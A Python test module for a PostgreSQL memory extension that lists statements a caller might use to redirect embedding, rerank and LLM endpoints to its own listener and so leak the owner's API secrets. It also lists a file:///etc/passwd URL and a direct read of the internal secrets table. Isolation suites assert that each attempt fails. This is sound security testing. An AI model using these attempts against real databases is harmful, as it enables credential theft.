"""The attempts of a caller to have the owner's secrets sent to a listener of its own: settings of the
administrator's set for the session or passed to recall, and the internal functions that call an endpoint called
with settings of its own. Each is a statement and its parameters; the isolation suites (one node and the Citus
cluster) run them as real logins and assert the listener received nothing."""

from __future__ import annotations

import psycopg
from psycopg.types.json import Jsonb


def attempt(conn: psycopg.Connection, query: str, params: tuple = ()) -> list[tuple]:
    """Rows a statement returns; an error (refused) returns none."""
    try:
        with conn.transaction():
            cursor = conn.execute(query, params)
            return cursor.fetchall() if cursor.description else []
    except psycopg.Error:
        return []


def exfiltration_attempts(listener: str) -> list[tuple[str, tuple]]:
    settings = {
        "embedder": "openai",
        "openai_base_url": listener,
        "openai_embedding_model": "m",
        "openai_embedding_dimensions": 8,
        "http_timeout_seconds": 1,
        "http_retries": 0,
    }
    session_tricks = [
        (f"set memory.openai_base_url = '{listener}'", ()),
        ("set memory.embedder = 'openai'", ()),
        ("select memory.embed(array['hello'])", ()),
        ("select * from memory.recall('hello')", ()),
        (f"set memory.rerank_url = '{listener}/rerank'", ()),
        ("set memory.rerank = 'http'", ()),
        ("select * from memory.recall('hello')", ()),
        ("select memory.setting('openai_base_url')", ()),
        ("set memory.entity_extractor = 'llm'", ()),
        (
            """select memory.commit('s', '[{"role": "user", "content": "Ana uses Postgres"}]', enrich => 'now')""",
            (),
        ),
    ]
    # Direct calls first: a session setting of the administrator's, once set, fails every later call.
    return [
        ("select * from memory.recall('hello', weights => %s)", (Jsonb({"rerank": "http", "rerank_url": listener}),)),
        ("select * from memory.recall('hello', weights => %s)", (Jsonb({"openai_base_url": listener}),)),
        (
            "select memory_internal._embed_texts(array['hello'], memory_internal._settings_json() || %s)",
            (Jsonb(settings),),
        ),
        (
            "select memory_internal._embed_texts(array['hello'], memory_internal._settings_json() || %s)",
            (Jsonb({**settings, "openai_base_url": "file:///etc/passwd#"}),),
        ),
        (
            "select memory_internal._rerank('q', array['d'], memory_internal._settings_json() || %s)",
            (Jsonb({"rerank": "http", "rerank_url": listener + "/rerank", "rerank_timeout_seconds": 1}),),
        ),
        (
            'select * from memory_internal._summarize_turns(\'[{"role": "user", "content": "hi"}]\', '
            "memory_internal._settings_json() || %s)",
            (Jsonb({**settings, "summarizer": "llm", "openai_chat_model": "m"}),),
        ),
        (
            'select memory_internal._llm_chat(\'entities\', \'[{"role": "user", "content": "hi"}]\', '
            "memory_internal._settings_json() || %s)",
            (Jsonb({**settings, "entity_extractor": "llm", "openai_chat_model": "m"}),),
        ),
        ("select * from memory_internal._secrets", ()),
        *session_tricks,
    ]
